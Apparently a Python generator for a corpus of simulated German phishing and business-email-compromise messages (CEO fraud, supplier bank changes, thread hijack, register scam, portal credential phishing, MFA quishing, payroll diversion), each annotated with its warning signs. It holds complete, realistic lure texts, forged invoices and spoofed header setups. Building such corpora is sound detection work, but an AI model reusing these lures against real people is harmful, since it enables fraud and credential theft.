"""Attack messages, German (01-08)."""

from lib import co, ids, smtp, systems
from lib.mime import Part
from lib.msg import esc, simple_html
from lib.systems import H
from messages import lief
from messages.common import (D, S, alt, eur, footer, gmail_att, gmail_parts, letterhead, mixed,
                             ms_msgid, outlook_att, outlook_bnd, outlook_parts, related, sig_de, table)
from messages.registry import msg

A = "attack"


# --------------------------------------------------------------------- 01
@msg(A, 1, "de", "ceo-vertrauliche-uebernahme")
def a01(m):
    m.what = "CEO fraud opener: 'Hendrik Terhoeven' asks the CFO for a confidential acquisition payment; lawyer will follow up."
    m.why = ("Look-alike domain examplegroup.de.com (CentralNic .de.com, not the group's domain) on Zoho Mail; SPF/DKIM/DMARC "
             "pass for the look-alike; secrecy ('not even Thomas or accounting'), off-channel ('only this address, can't phone'), "
             "hand-off to a fake lawyer - classic BEC first contact with no link or attachment.")
    m.dmarc_policy = {"examplegroup.de.com": "none"}
    h = H(("Hendrik Terhoeven", "h.terhoeven@examplegroup.de.com"), [co.P("cfo")],
          "Vertraulich - Projekt Glashaus", D(2026, 10, 15, 16, 42, 7))
    paras = ["Hallo Sabine,", "",
             "bist du heute noch im Büro erreichbar? Ich sitze gerade in Venlo bei den Gesprächen zur Übernahme der "
             "Kwekerij, über die wir im Sommer kurz gesprochen hatten. Die Sache wird konkreter als erwartet, und ich "
             "brauche kurzfristig deine Unterstützung bei einer Zahlung im Zusammenhang mit der Due-Diligence-Vereinbarung "
             "(Exklusivität + Treuhand).", "",
             "Bitte behandle das streng vertraulich, auch gegenüber Thomas und der Buchhaltung. Die Niederländer bestehen "
             "auf dem NDA, und bis zur offiziellen Bekanntgabe darf intern nichts kommuniziert werden. Die Kanzlei, die uns "
             "begleitet (mr. Pieter de Vries, Van Houten Advocaten, Eindhoven), meldet sich morgen früh direkt bei dir und "
             "schickt dir die Unterlagen und die Zahlungsdaten.", "",
             "Kommuniziere bitte ausschließlich über diese Adresse, mein Diensthandy ist in den Gesprächen stumm und ich "
             "kann heute nicht telefonieren. Gib mir kurz Bescheid, sobald du das gelesen hast.", "",
             "Danke dir!", "Hendrik", "", "Von meinem iPhone gesendet"]
    text = "\n".join(paras) + "\n"
    html = ('<!DOCTYPE html><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head>'
            '<body><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">' +
            "".join("<div>%s<br></div>" % (esc(p) if p else "") for p in paras) + "</div><br></body></html>\n")
    root = alt(m.text(text, "UTF-8", "quoted-printable"), m.html(html, "UTF-8", "quoted-printable"), m.boundary("zoho"))
    return systems.zoho(m, h, root, ip="136.143.169.27")


# --------------------------------------------------------------------- 02
@msg(A, 2, "de", "lieferant-bankverbindung-lookalike")
def a02(m):
    L = co.LIEF
    mule = ids.make_iban("DE", "12030000" + "1068841937")
    m.what = "Supplier bank-detail change 'from Petra Lang, Lieferant GmbH' with signed-looking PDF notice; asks AP to pay two open invoices to a new DKB account."
    m.why = ("Sent from lieferantgmbh.de (hyphen missing) via an attacker Microsoft 365 tenant (DKIM d=lieferantgmbh.onmicrosoft.com, "
             "SPF aligned so DMARC passes); CC to a fake s.maier@ on the same look-alike; signature copied but the phone is a "
             "mobile number; new IBAN at a direct bank, deadline pressure, 'confirm by e-mail'.")
    m.dmarc_policy = {"lieferantgmbh.de": "none"}
    h = H(("Petra Lang", "p.lang@lieferantgmbh.de"), [co.P("ap")], "Änderung unserer Bankverbindung - Lieferant GmbH",
          D(2026, 11, 3, 10, 14, 22), cc=[("Stefan Maier", "s.maier@lieferantgmbh.de")], hcs="iso-8859-1", henc="Q")
    h.msgid = ms_msgid(m, "eurprd04")
    mob = m.tel("+49 1521 4478902")
    paras = ["Sehr geehrte Frau Schüttler,", "",
             "im Zuge der Umstellung unseres Zahlungsverkehrs auf eine neue Hausbank zum 01.11.2026 hat sich unsere "
             "Bankverbindung geändert. Das bisherige Konto bei der Volksbank an der Niers wird zum Monatsende aufgelöst; "
             "Zahlungen, die dort nach dem 15.11.2026 eingehen, können nicht mehr gutgeschrieben werden und gehen an den "
             "Auftraggeber zurück.", "",
             "Bitte hinterlegen Sie ab sofort folgende Bankverbindung für alle offenen und künftigen Rechnungen:", "",
             "Kontoinhaber: Lieferant GmbH\nBank: Deutsche Kreditbank AG (DKB)\nIBAN: %s\nBIC: BYLADEM1001" % ids.fmt_iban(mule), "",
             "Die offizielle Mitteilung mit Unterschrift der Geschäftsführung finden Sie im Anhang. Wir bitten Sie, die Änderung "
             "in Ihrem System zu erfassen und uns kurz per E-Mail zu bestätigen. Die offenen Posten RE-2026-10412 "
             "(18.460,20 EUR) und RE-2026-10477 (7.912,35 EUR) bitten wir bereits auf die neue Verbindung zu überweisen.", "",
             "Bei Rückfragen erreichen Sie mich am schnellsten mobil.", ""]
    sig = ("Mit freundlichen Grüßen\n\nPetra Lang\nInnendienst / Auftragsabwicklung\n\nLieferant GmbH\n"
           "Industriestraße 44 | 47608 Geldern\nTel.: +49 2831 97420-23 | Mobil: %s\np.lang@lieferant-gmbh.de | www.lieferant-gmbh.de\n\n"
           "Geschäftsführer: Georg Verhaag | Amtsgericht Kleve HRB 9921 | USt-IdNr. %s" % (mob, L["vat"]))
    t, ht = outlook_parts(m, paras, "iso-8859-1", "quoted-printable", "DE", "E-MailFormatvorlage17", sig_text=sig)
    # PDF notice
    d = m.pdf(info={"Title": "Mitteilung Bankverbindung", "Author": "Petra Lang", "Creator": "Microsoft® Word für Microsoft 365",
                    "Producer": "Microsoft® Word für Microsoft 365"}, created="D:20261103095812+01'00'")
    p = d.page()
    y = letterhead(p, "Lieferant GmbH", ["Substrate · Düngemittel · Bewässerungstechnik für den Unterglasanbau",
                                          "Industriestraße 44 · 47608 Geldern · Tel. +49 2831 97420-0 · www.lieferant-gmbh.de"], lief.GREEN)
    for i, l in enumerate(["Example Group GmbH", "Buchhaltung / Kreditoren", "Am Glashaus 12", "47638 Straelen"]):
        p.text(56, y + 12 * i, l, 10)
    p.text(538, y, "Geldern, 02.11.2026", 10, align="right")
    y += 80
    p.text(56, y, "Mitteilung über die Änderung unserer Bankverbindung", 13, bold=True)
    y += 26
    y = p.wrap(56, y, 480, "Sehr geehrte Damen und Herren,\n\nhiermit teilen wir Ihnen mit, dass die Lieferant GmbH ihren "
               "Zahlungsverkehr mit Wirkung zum 01.11.2026 auf eine neue Bankverbindung umgestellt hat. Wir bitten Sie, "
               "sämtliche Zahlungen ab sofort ausschließlich auf das folgende Konto zu leisten:", 10)
    y += 6
    for k, v in (("Kontoinhaber", "Lieferant GmbH"), ("Kreditinstitut", "Deutsche Kreditbank AG"),
                 ("IBAN", ids.fmt_iban(mule)), ("BIC", "BYLADEM1001")):
        p.text(76, y, k, 10, bold=True)
        p.text(190, y, v, 10)
        y += 15
    y += 8
    y = p.wrap(56, y, 480, "Die bisherige Bankverbindung bei der Volksbank an der Niers eG wird zum 30.11.2026 geschlossen. "
               "Bereits erteilte Lastschriftmandate verlieren damit ihre Gültigkeit. Bitte bestätigen Sie uns die Umstellung "
               "kurz per E-Mail an p.lang@lieferant-gmbh.de.\n\nFür Ihre Mühe bedanken wir uns und stehen für Rückfragen gern zur Verfügung.\n\n"
               "Mit freundlichen Grüßen\nLieferant GmbH", 10)
    y += 22
    p.text(56, y, "G. Verhaag", 15, color=(20, 40, 120))
    p.text(260, y, "i. A. P. Lang", 13, color=(20, 40, 120))
    y += 14
    p.text(56, y, "Georg Verhaag, Geschäftsführer", 8.5)
    p.text(260, y, "Petra Lang, Innendienst", 8.5)
    footer(p, ["Lieferant GmbH · Sitz Geldern · %s · USt-IdNr. %s" % (L["hrb"], L["vat"])])
    pdf = m.render_pdf(d)
    att = outlook_att(m, pdf, "application/pdf", "Lieferant_GmbH_Mitteilung_Bankverbindung.pdf", h.date)
    root = mixed([alt(t, ht, outlook_bnd(h.msgid, 0)), att], outlook_bnd(h.msgid, 4))
    return systems.m365(m, h, root, tenant="lieferantgmbh.onmicrosoft.com", region="eurprd04", eop="EUR02", eop_dc="VI1",
                        dkim_d="lieferantgmbh.onmicrosoft.com", dkim_s="selector1-lieferantgmbh-de", ip="40.107.22.94")


# --------------------------------------------------------------------- 03
@msg(A, 3, "de", "lieferant-threadhijack-rechnung")
def a03(m):
    L = co.LIEF
    mule = ids.make_iban("DE", "10010010" + "0947213358")
    bank = ("Postbank (Deutsche Bank AG)", "PBNKDEFFXXX", mule)
    m.what = ("Reply inside a real thread about order 4500018812, from Petra Lang's genuine mailbox, with invoice RE-2026-10531 "
              "whose IBAN and GiroCode point to an 'Ausweichkonto' at Postbank.")
    m.why = ("Mailbox takeover at Lieferant GmbH: sent through their real relay mail.lieferant-gmbh.de (SPF/DKIM/DMARC pass) but "
             "from Roundcube webmail instead of Petra's usual Outlook, quoting the real thread; new bank account justified by an "
             "'audit block', urgency, forged invoice copies the real layout but carries the mule IBAN in text and EPC QR.")
    items = [("KS-100-18", "Kokos-Growbag 100x18x10 cm, gepuffert, 3 Pflanzlöcher", 4200, "Stk", 3.18),
             ("DR-2L-PC", "Tropfer PC 2 l/h mit Winkelstab", 12600, "Stk", 0.41),
             ("TR-FR", "Frachtkostenanteil LKW Geldern-Straelen", 1, "psch", 185.00)]
    pdf, tot = lief.invoice_pdf(m, "RE-2026-10531", "19.11.2026", "17.11.2026", "4500018812", "LS-88213", items, bank,
                                due_s="03.12.2026", created="D:20261119152211+01'00'",
                                note="Bitte beachten: Zahlungen vorübergehend ausschließlich auf das unten genannte Konto.")
    prev1 = "<000c01db58a2$4f1e6a40$ed5b3ec0$@lieferant-gmbh.de>"
    prev2 = "<6b1f0d2c9e8a4b7f93c2d5e1a0f47b68@EXCH01.corp.example.com>"
    h = H(co.LIEF["lang"], [co.P("ap")], "AW: Lieferung Kokossubstrat KW 47 / Bestellung 4500018812",
          D(2026, 11, 19, 15, 37, 48), cc=[co.P("buy")], irt=prev2, refs=prev1 + " " + prev2)
    h.msgid = "<%s@lieferant-gmbh.de>" % smtp.rhex(m.rng, 32)
    text = ("Hallo Frau Schüttler,\n\n"
            "danke für die Rückmeldung. Anbei wie besprochen die Rechnung RE-2026-10531 zur Lieferung KW 47 \n"
            "(Kokos-Growbags und Tropfer).\n\n"
            "Wichtiger Hinweis: Wegen der laufenden Jahresabschlussprüfung ist unser Geschäftskonto bei der \n"
            "Volksbank an der Niers bis voraussichtlich Mitte Dezember nur eingeschränkt nutzbar, Eingänge \n"
            "werden derzeit zurückgebucht. Bitte überweisen Sie den Betrag deshalb ausnahmsweise auf unser \n"
            "Ausweichkonto, das auch auf der beigefügten Rechnung steht:\n\n"
            "Lieferant GmbH\nIBAN: %s\nBIC: PBNKDEFFXXX\n\n"
            "Der Betrag von %s EUR ist wie gewohnt 14 Tage netto fällig, wir wären Ihnen aber dankbar, wenn \n"
            "die Zahlung noch diese Woche rausgehen könnte, da wir den Eingang für den Prüfer dokumentieren \n"
            "müssen. Eine kurze Bestätigung, wenn die Zahlung angewiesen ist, wäre super.\n\n"
            "Die übrigen Lieferdaten bleiben wie von Herrn Peeters bestätigt.\n\n"
            "Viele Grüße\nPetra Lang\n\n"
            "-- \nLieferant GmbH · Innendienst / Auftragsabwicklung\nIndustriestraße 44 · 47608 Geldern\n"
            "Tel. +49 2831 97420-23 · www.lieferant-gmbh.de\n\n"
            "Am 2026-11-18 16:02, schrieb Jana Schüttler:\n"
            "> Hallo Frau Lang,\n>\n"
            "> vielen Dank, die Lieferung ist heute vollständig eingegangen (Lieferschein\n"
            "> LS-88213, 14 Paletten). Die Rechnung können Sie mir gern direkt schicken.\n>\n"
            "> Viele Grüße\n> Jana Schüttler\n> Kreditorenbuchhaltung\n>\n"
            "> Example Group GmbH\n> Am Glashaus 12 · 47638 Straelen\n> Tel. +49 2834 9577-214\n>\n"
            "> Von: Petra Lang <p.lang@lieferant-gmbh.de>\n> Gesendet: Dienstag, 17. November 2026 11:20\n"
            "> An: Markus Peeters <markus.peeters@example.com>\n> Cc: Jana Schüttler <jana.schuettler@example.com>\n"
            "> Betreff: Lieferung Kokossubstrat KW 47 / Bestellung 4500018812\n>\n"
            "> Guten Tag Herr Peeters,\n>\n"
            "> die Ware zu Ihrer Bestellung 4500018812 geht morgen früh bei uns raus, Anlieferung\n"
            "> Straelen am 18.11. zwischen 7 und 9 Uhr (Spedition Hülsmann, 14 Paletten).\n"
            "> Bitte um kurze Info an Frau Schüttler wegen der Rechnung.\n>\n"
            "> Mit freundlichen Grüßen\n> Petra Lang\n") % (ids.fmt_iban(mule), eur(tot))
    tp = m.text(text, "UTF-8", "8bit", params=["format=flowed"])
    att = m.att(pdf, "application/pdf", "RE-2026-10531.pdf", fname_style="bare", disp_params=["size=%d" % len(pdf)])
    root = mixed([tp, att], m.boundary("roundcube"))
    web_ip = "192.0.2.147"
    return systems.postfix_relay(
        m, h, root, L["relay"], L["relay_ip"], client="roundcube", dkim_d=L["domain"], dkim_s="mail2025",
        order=["mime", "date", "from", "to", "cc", "subject", "irt", "refs", "msgid"],
        ua_lines=["X-Sender: p.lang@lieferant-gmbh.de", "User-Agent: Roundcube Webmail/1.6.9"],
        spam_lines=["Received: from %s\n\tby webmail.lieferant-gmbh.de\n\twith HTTP (HTTP/1.1 POST); %s" % (
            web_ip, smtp.rfc_date(h.date, "de"))])


# --------------------------------------------------------------------- 04
@msg(A, 4, "de", "firmenregister-eintragungsofferte")
def a04(m):
    mule = ids.make_iban("SK", "1100" + "000000" + "2948107736")
    m.what = ("'Zentrales Firmenregister Deutschland' asks the CEO to check and sign the company's register entry (HRB 14873); "
              "the small print makes it a 3-year paid listing at 1,089 EUR/year, payment to a Slovak account.")
    m.why = ("Directory/register scam via Brevo: official-sounding name, public register data scraped from the imprint, "
             "'Aktualisierung' framing, pre-filled form to sign and return by fax, fee hidden in the terms, foreign IBAN.")
    m.dmarc_policy = {"zfd-firmenregister.de": "none"}
    h = H(("Zentrales Firmenregister Deutschland", "eintragung@zfd-firmenregister.de"), [co.P("ceo")],
          "Aktualisierung Ihres Firmeneintrags - Example Group GmbH (HRB 14873)", D(2026, 11, 9, 7, 12, 40))
    fax = m.tel("+49 30 220 118 934")
    text = ("Sehr geehrte Damen und Herren,\n\n"
            "zur Aktualisierung des Datenbestands im Zentralen Firmenregister Deutschland (ZFD) bitten wir Sie, die "
            "nachstehenden Angaben zu Ihrem Unternehmen zu prüfen und das beigefügte Formular unterschrieben an uns "
            "zurückzusenden.\n\n"
            "Firma: Example Group GmbH\nRegistergericht: Amtsgericht Kleve, HRB 14873\n"
            "Anschrift: Am Glashaus 12, 47638 Straelen\nGeschäftsführung: Hendrik Terhoeven\n"
            "Branche: Gemüsebau unter Glas / Erzeugung von Tomaten und Gurken\n\n"
            "Korrekturen tragen Sie bitte direkt im Formular ein. Die Rücksendung ist per Fax an %s oder "
            "eingescannt per E-Mail an eintragung@zfd-firmenregister.de möglich.\n\n"
            "Bitte senden Sie das Formular bis zum 20.11.2026 zurück, damit Ihr Eintrag in der Ausgabe 2027 "
            "berücksichtigt werden kann.\n\n"
            "Mit freundlichen Grüßen\n\nIhr ZFD-Eintragungsservice\n"
            "Zentrales Firmenregister Deutschland · Friedrichstraße 95 · 10117 Berlin\n"
            "Sie erhalten diese E-Mail als im Handelsregister eingetragenes Unternehmen.\n") % fax
    html = simple_html(["Sehr geehrte Damen und Herren,",
                        "zur Aktualisierung des Datenbestands im <b>Zentralen Firmenregister Deutschland (ZFD)</b> bitten "
                        "wir Sie, die nachstehenden Angaben zu Ihrem Unternehmen zu prüfen und das beigefügte Formular "
                        "unterschrieben an uns zurückzusenden.",
                        '<table style="border-collapse:collapse;font-size:10pt">'
                        '<tr><td style="padding:2px 12px 2px 0">Firma:</td><td><b>Example Group GmbH</b></td></tr>'
                        '<tr><td>Registergericht:</td><td>Amtsgericht Kleve, HRB 14873</td></tr>'
                        '<tr><td>Anschrift:</td><td>Am Glashaus 12, 47638 Straelen</td></tr>'
                        '<tr><td>Geschäftsführung:</td><td>Hendrik Terhoeven</td></tr>'
                        '<tr><td>Branche:</td><td>Gemüsebau unter Glas / Erzeugung von Tomaten und Gurken</td></tr></table>',
                        "Korrekturen tragen Sie bitte direkt im Formular ein. Die Rücksendung ist per Fax an %s oder "
                        "eingescannt per E-Mail an eintragung@zfd-firmenregister.de möglich." % fax,
                        "Bitte senden Sie das Formular bis zum <b>20.11.2026</b> zurück, damit Ihr Eintrag in der Ausgabe "
                        "2027 berücksichtigt werden kann.",
                        "Mit freundlichen Grüßen<br>Ihr ZFD-Eintragungsservice",
                        '<span style="font-size:8pt;color:#777">Zentrales Firmenregister Deutschland · Friedrichstraße 95 · '
                        '10117 Berlin<br>Sie erhalten diese E-Mail als im Handelsregister eingetragenes Unternehmen.</span>'],
                       font="Arial, Helvetica, sans-serif")
    d = m.pdf(info={"Title": "Eintragungsformular", "Producer": "iText® 7.2.5 ©2000-2023 iText Group NV"},
              created="D:20261108221502+01'00'")
    p = d.page()
    col = (20, 50, 110)
    p.rect(0, 0, p.w, 62, fill=col)
    p.text(56, 36, "ZFD · Zentrales Firmenregister Deutschland", 16, bold=True, color=(255, 255, 255))
    p.text(56, 52, "Eintragungs- und Korrekturformular · Ausgabe 2027", 9, color=(220, 225, 240))
    y = 96
    p.text(56, y, "Registernummer ZFD-2027-0048817 · Ihr Zeichen: HRB 14873 Kleve", 9, bold=True)
    y += 22
    for k, v in (("Firma", "Example Group GmbH"), ("Straße", "Am Glashaus 12"), ("PLZ / Ort", "47638 Straelen"),
                 ("Registergericht", "Amtsgericht Kleve, HRB 14873"), ("Geschäftsführung", "Hendrik Terhoeven"),
                 ("Telefon", "02834 9577-0"), ("Branche", "Gemüsebau unter Glas"), ("Korrekturen", "")):
        p.text(56, y, k, 9.5)
        p.rect(170, y - 11, 370, 16, stroke=(120, 120, 120))
        p.text(175, y, v, 9.5)
        y += 22
    y += 6
    y = p.wrap(56, y, 484, "Leistungsbeschreibung und Bedingungen: Mit der Unterzeichnung und Rücksendung dieses Formulars "
               "beauftragt der Unterzeichner die ZFD Zentrales Firmenregister Deutschland mit der Eintragung und Pflege der "
               "oben genannten Firmendaten im Online-Verzeichnis www.zfd-firmenregister.de. Der Auftrag wird für eine "
               "Laufzeit von drei Jahren geschlossen. Der Preis für den Eintrag beträgt jährlich 1.089,00 EUR zzgl. gesetzlicher "
               "MwSt. und ist jeweils im Voraus nach Rechnungsstellung fällig. Der Vertrag verlängert sich um ein weiteres "
               "Jahr, wenn er nicht drei Monate vor Ablauf schriftlich gekündigt wird. Zahlungen sind zu leisten auf das "
               "Konto IBAN %s, BIC TATRSKBX (Tatra banka a.s.). Es gilt das Recht der Slowakischen Republik. "
               "Gerichtsstand ist Bratislava. Es handelt sich um ein Angebot; eine Eintragung in amtliche Register "
               "erfolgt nicht." % ids.fmt_iban(mule), 6.5, color=(70, 70, 70))
    y += 20
    p.text(56, y, "Datum, Ort", 9)
    p.line(56, y - 12, 220, y - 12)
    p.text(300, y, "Unterschrift, Firmenstempel", 9)
    p.line(300, y - 12, 540, y - 12)
    footer(p, ["Rücksendung per Fax: %s · E-Mail: eintragung@zfd-firmenregister.de" % fax])
    pdf = m.render_pdf(d)
    b = "=-" + smtp.ralnum(m.rng, 24) + "=="
    root = mixed([alt(m.text(text, "utf-8", "quoted-printable"), m.html(html, "utf-8", "quoted-printable"), "alt" + b),
                  m.att(pdf, "application/pdf", "ZFD_Eintragungsformular_HRB14873.pdf")], b)
    return systems.brevo(m, h, root, dkim_d="zfd-firmenregister.de", ip="77.32.148.41")


# --------------------------------------------------------------------- 05
@msg(A, 5, "de", "globalgap-zertifikat-portal")
def a05(m):
    ggn = ids.gtin("406306158220")
    url = "https://portal.agricert-europe.com/kundenportal/anmeldung?ggn=%s&ref=IFA6-REN-2026-11&sid=%s" % (ggn, smtp.rhex(m.rng, 20))
    m.what = ("'AgriCert Europe Zertifizierungsportal' reminds the QM lead that documents for the GLOBALG.A.P. IFA v6 renewal "
              "(GGN %s) must be uploaded by 30.10., else suspension visible to retail customers." % ggn)
    m.why = ("Credential phishing for a trade portal: the certification body is agricert-europe.de, this comes from the look-alike "
             "agricert-europe.com via Mailgun; button leads to a fake portal login on the look-alike; threat of 'suspended' "
             "status in the GLOBALG.A.P. database and automatic notice to customers.")
    m.dmarc_policy = {"agricert-europe.com": "none"}
    h = H(("AgriCert Europe - Zertifizierungsportal", "portal@agricert-europe.com"), [co.P("qm")],
          "Erinnerung: Zertifikatsverlängerung GLOBALG.A.P. IFA v6 - GGN %s - Unterlagen bis 30.10.2026" % ggn,
          D(2026, 10, 21, 9, 3, 15))
    text = ("AgriCert Europe - Kundenportal\n\n"
            "Sehr geehrte Frau Dr. Lindner,\n\n"
            "für den Betrieb Example Group GmbH (GGN %s, Option 1, Produkte: Tomaten, Gurken unter Glas) "
            "steht die Verlängerung des GLOBALG.A.P.-Zertifikats (IFA v6 Smart) an. Im Kundenportal fehlen noch "
            "folgende Unterlagen:\n\n"
            " - Selbstbewertung 2026 (Checkliste IFA v6, vollständig)\n"
            " - Rückstandsmonitoring 2026 (Laborberichte, mind. 2 Proben je Kultur)\n"
            " - Nachweis Wasseranalyse / Risikobewertung Gießwasser\n\n"
            "Bitte laden Sie die Unterlagen bis spätestens 30.10.2026 hoch:\n%s\n\n"
            "Werden die Unterlagen nicht fristgerecht eingereicht, wird der Zertifikatsstatus in der GLOBALG.A.P.-Datenbank "
            "gemäß Allgemeinen Regeln Teil I auf \"suspendiert\" gesetzt. Abnehmer mit Zugriff auf Ihre GGN werden "
            "automatisch über die Statusänderung informiert.\n\n"
            "Bei Fragen wenden Sie sich bitte an Ihren zuständigen Auditor.\n\n"
            "Mit freundlichen Grüßen\nIhr Team Zertifizierung\nAgriCert Europe GmbH · Godesberger Allee 139 · 53175 Bonn\n"
            "Diese Nachricht wurde automatisch erstellt.\n") % (ggn, url)
    html = ('<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>AgriCert Europe</title></head>'
            '<body style="margin:0;background:#f2f4f1;font-family:Segoe UI,Arial,sans-serif">'
            '<table width="100%%" cellpadding="0" cellspacing="0" style="background:#f2f4f1"><tr><td align="center" style="padding:24px">'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-top:5px solid #2e7d32">'
            '<tr><td style="padding:20px 28px;font-size:20px;color:#2e7d32;font-weight:bold">AgriCert Europe '
            '<span style="font-size:12px;color:#777;font-weight:normal">Kundenportal</span></td></tr>'
            '<tr><td style="padding:0 28px 20px 28px;font-size:14px;color:#222;line-height:1.5">'
            '<p>Sehr geehrte Frau Dr. Lindner,</p>'
            '<p>für den Betrieb <b>Example Group GmbH</b> (GGN %s, Option 1, Produkte: Tomaten, Gurken unter Glas) steht die '
            'Verlängerung des GLOBALG.A.P.-Zertifikats (IFA v6 Smart) an. Im Kundenportal fehlen noch folgende Unterlagen:</p>'
            '<ul><li>Selbstbewertung 2026 (Checkliste IFA v6, vollständig)</li><li>Rückstandsmonitoring 2026 (Laborberichte, '
            'mind. 2 Proben je Kultur)</li><li>Nachweis Wasseranalyse / Risikobewertung Gießwasser</li></ul>'
            '<p>Bitte laden Sie die Unterlagen bis spätestens <b>30.10.2026</b> hoch.</p>'
            '<p style="text-align:center;padding:10px 0"><a href="%s" style="background:#2e7d32;color:#fff;padding:12px 26px;'
            'text-decoration:none;border-radius:3px;font-weight:bold">Zum Kundenportal</a></p>'
            '<p>Werden die Unterlagen nicht fristgerecht eingereicht, wird der Zertifikatsstatus in der GLOBALG.A.P.-Datenbank '
            'gemäß Allgemeinen Regeln Teil I auf &bdquo;suspendiert&ldquo; gesetzt. Abnehmer mit Zugriff auf Ihre GGN werden '
            'automatisch über die Statusänderung informiert.</p>'
            '<p>Mit freundlichen Grüßen<br>Ihr Team Zertifizierung</p></td></tr>'
            '<tr><td style="padding:14px 28px;background:#fafafa;font-size:11px;color:#888">AgriCert Europe GmbH · Godesberger '
            'Allee 139 · 53175 Bonn · Diese Nachricht wurde automatisch erstellt.</td></tr></table></td></tr></table>'
            '</body></html>\n') % (ggn, esc(url))
    root = alt(m.text(text, "utf-8", "quoted-printable"), m.html(html, "utf-8", "quoted-printable"), smtp.rhex(m.rng, 32))
    return systems.mailgun(m, h, root, "mg.agricert-europe.com", sender="portal@mg.agricert-europe.com")


# --------------------------------------------------------------------- 06
@msg(A, 6, "de", "mfa-richtlinie-qr-pdf")
def a06(m):
    b64u = "bmFkaW5lLmtlc3NlbHNAZXhhbXBsZS5jb20="
    url = "https://pub-3f6a9c0d4b2e41d8a7c5e9b1f0d2a6c4.r2.dev/auth/mfa.html#%s" % b64u
    m.what = "'Example Group IT-Service' tells logistics staff to re-register Microsoft Authenticator by scanning a QR code in the attached 'policy' PDF."
    m.why = ("Quishing: the link is only inside a QR code in a PDF (URL on Cloudflare r2.dev with the victim's address in the "
             "fragment), sent through a compromised WordPress shop (PHPMailer on shared hosting, domain bauer-gartenbedarf.de "
             "passes SPF/DKIM/DMARC) under the display name of the company's IT; deadline, personalised file name.")
    h = H(("Example Group IT-Service", "it-service@bauer-gartenbedarf.de"), [co.P("log")],
          "Aktion erforderlich: Microsoft Authenticator bis 13.11.2026 neu registrieren", D(2026, 11, 10, 8, 47, 31))
    h.mail_from = "bauergar@s17.webspace-host24.de"
    h.msgid = "<%s@bauer-gartenbedarf.de>" % smtp.ralnum(m.rng, 43)
    text = ("Sehr geehrte Frau Kessels,\n\n"
            "im Zuge der Umstellung auf die neue Sicherheitsrichtlinie für Microsoft 365 müssen alle Mitarbeitenden "
            "ihre Anmeldung mit dem Microsoft Authenticator bis zum 13.11.2026 erneut bestätigen. Nicht bestätigte "
            "Konten werden anschließend vorübergehend gesperrt (Outlook, Teams, OneDrive).\n\n"
            "Die Anleitung mit Ihrem persönlichen Registrierungscode finden Sie im Anhang. Bitte scannen Sie den "
            "QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert ca. 2 Minuten.\n\n"
            "Vielen Dank für Ihre Mitarbeit.\n\nIhr IT-Service\nExample Group GmbH\n")
    html = ('<html><body style="font-family:Calibri,Arial,sans-serif;font-size:11pt">'
            '<p>Sehr geehrte Frau Kessels,</p><p>im Zuge der Umstellung auf die neue Sicherheitsrichtlinie für Microsoft 365 '
            'müssen alle Mitarbeitenden ihre Anmeldung mit dem Microsoft Authenticator bis zum <b>13.11.2026</b> erneut '
            'bestätigen. Nicht bestätigte Konten werden anschließend vorübergehend gesperrt (Outlook, Teams, OneDrive).</p>'
            '<p>Die Anleitung mit Ihrem persönlichen Registrierungscode finden Sie im Anhang. Bitte scannen Sie den QR-Code '
            'mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Der Vorgang dauert ca. 2 Minuten.</p>'
            '<p>Vielen Dank für Ihre Mitarbeit.</p><p>Ihr IT-Service<br>Example Group GmbH</p></body></html>\n')
    d = m.pdf(info={"Title": "Sicherheitsrichtlinie MFA", "Producer": "Skia/PDF m129", "Creator": "Chromium"},
              created="D:20261110073011+00'00'")
    p = d.page()
    p.rect(0, 0, p.w, 70, fill=(0, 103, 184))
    p.text(56, 42, "Microsoft 365 · Sicherheitsrichtlinie", 18, bold=True, color=(255, 255, 255))
    p.text(56, 60, "Example Group GmbH · IT-Service", 9, color=(220, 235, 250))
    y = 110
    p.text(56, y, "Erneute Registrierung der Multi-Faktor-Authentifizierung", 13, bold=True)
    y += 24
    y = p.wrap(56, y, 480, "Benutzer: nadine.kessels@example.com\nFrist: 13.11.2026, 23:59 Uhr\n\n"
               "1. Öffnen Sie die Kamera-App Ihres Smartphones.\n2. Scannen Sie den unten stehenden QR-Code.\n"
               "3. Melden Sie sich mit Ihrem Firmenkonto an und bestätigen Sie die Anfrage im Microsoft Authenticator.\n\n"
               "Hinweis: Aus Sicherheitsgründen ist der Code nur für Ihr Konto gültig und kann nicht am PC geöffnet werden.", 10.5)
    p.qr(200, y + 10, 190, m.qr_matrix(url))
    p.text(p.w / 2, y + 220, "Persönlicher Registrierungscode · gültig 72 Stunden", 8, align="center", color=(90, 90, 90))
    footer(p, ["Example Group GmbH · IT-Service · Dieses Dokument ist nur für den internen Gebrauch bestimmt."])
    pdf = m.render_pdf(d)
    b1 = m.boundary("phpmailer")
    b2 = m.boundary("phpmailer")
    root = mixed([alt(m.text(text, "utf-8", "quoted-printable"), m.html(html, "utf-8", "quoted-printable"), b2),
                  m.att(pdf, "application/pdf", "Sicherheitsrichtlinie_MFA_nadine.kessels.pdf", header_order=["ct", "cte", "cd"])],
                 b1, preamble="This is a multi-part message in MIME format.")
    return systems.cpanel(m, h, root, "s17.webspace-host24.de", "198.51.100.140", auth_user="bauergar",
                          php_script="wp-content/plugins/contact-form-7/includes/mail.php", dkim_d="bauer-gartenbedarf.de",
                          ua_lines=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"], zone="de",
                          order=["date", "to", "from", "subject", "msgid", "mime"])


# --------------------------------------------------------------------- 07
@msg(A, 7, "de", "gehaltskonto-aenderung-privatmail")
def a07(m):
    mule = ids.make_iban("DE", "10011001" + "2627841059")
    m.what = "'Bernd Pauls' asks HR from a private Gmail address to pay December salary and Christmas bonus to a new N26 account."
    m.why = ("Payroll diversion: the real Bernd Pauls has no such address (bernd.pauls.priv@gmail.com), request only by e-mail, "
             "'on holiday, no VPN', asks to confirm by reply, new neobank IBAN shortly before the bonus run.")
    h = H(("Bernd Pauls", "bernd.pauls.priv@gmail.com"), [co.P("hr")], "Neue Bankverbindung für Gehalt",
          D(2026, 11, 23, 6, 58, 12))
    paras = ["Hallo Monika,", "",
             "ich habe mein Gehaltskonto gewechselt (bin von der Sparkasse weg). Kannst du bitte ab der "
